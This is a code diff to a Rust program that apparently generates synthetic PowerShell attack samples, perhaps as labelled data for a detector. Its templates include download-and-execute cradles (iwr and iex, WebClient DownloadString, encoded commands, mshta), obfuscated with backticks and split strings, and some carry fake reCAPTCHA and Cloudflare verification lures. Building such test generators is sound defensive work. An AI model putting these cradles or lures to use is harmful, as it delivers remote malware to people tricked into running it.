@@ -339,8 +339,8 @@ fn clipboard(dice: &mut Dice, truth: &mut Truth) -> String {
     let encoded = base64(&wide(&format!("iex (iwr -Uri '{url}' -UseBasicParsing).Content")));
     let form = dice.pick(&[
         "powershell -w hidden -c \"iwr '@URL@' -UseBasicParsing | iex\" # ''I am not a robot - reCAPTCHA Verification ID: @ID@''\n",
-        "PowerShell.exe -W Hidden -command \"$@NAME@ = '@URL@'; $@OTHER@ = Invoke-WebRequest -Uri $@NAME@ -UseBasicParsing; iex $@OTHER@.Content\" # Cloudflare verification: @ID@\n",
-        "powershell -NoP -W h -c \"$@NAME@='@SCHEME@:' + '//' + '@BARE@'; iex(irm $@NAME@)\"\n",
+        "$@NAME@ = '@URL@'; $@OTHER@ = Invoke-WebRequest -Uri $@NAME@ -UseBasicParsing; iex $@OTHER@.Content # Cloudflare verification: @ID@\n",
+        "$@NAME@='@SCHEME@:' + '//' + '@BARE@'; iex(irm $@NAME@)\n",
         "powershell.exe -eC @ENCODED@\n",
         "powershell -w 1 \"mshta.exe @URL@ # I am not a robot: CAPTCHA @ID@\"\n",
         "powershell -c \"&(gcm i*x)([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('@PACKED@')))))\"\n",
@@ -386,7 +386,7 @@ fn cradle(dice: &mut Dice, truth: &mut Truth) -> String {
     let name = veiled(dice);
     let form = dice.pick(&[
         "@INVOKE@ (New-Object Net.WebClient).DownloadString(@URL@)\n",
-        "@INVOKE@ (New-Object (\"{1}{2}{0}\"-f'ent','Net.We','bCli')).\"D`ownl`oadS`tring\"(@URL@)\n",
+        "@INVOKE@ (New-Object (\"{1}{2}{0}\"-f'ent','Net.We','bCli')).\"DOw`Nl`OadSTrI`Ng\"(@URL@)\n",
         "$@NAME@ = New-Object System.Net.WebClient\n$@NAME@.Headers.Add('User-Agent', '@AGENT@')\n$@NAME@.Proxy = [System.Net.WebRequest]::DefaultWebProxy\n$@NAME@.Credentials = [System.Net.CredentialCache]::DefaultCredentials\n@INVOKE@ $@NAME@.DownloadString(@URL@)\n",
         "(New-Object Net.WebClient).DownloadString(@URL@) | @IEX@\n",
         "$@NAME@ = (Invoke-WebRequest -UseBasicParsing -Uri @URL@ -UserAgent '@AGENT@').Content\n@INVOKE@ $@NAME@\n",
@@ -652,7 +652,8 @@ fn picture(dice: &mut Dice, truth: &mut Truth) -> String {
     let inner = before + &rest;
     match dice.below(3) {
         0 => inner,
-        1 => {
+        // Quotes would be lost among the arguments of a program.
+        1 if !inner.contains('"') => {
             let name = mixed(dice, 5);
             let packed = base64(&wide(&inner)).replace('A', "#@%");
             format!(
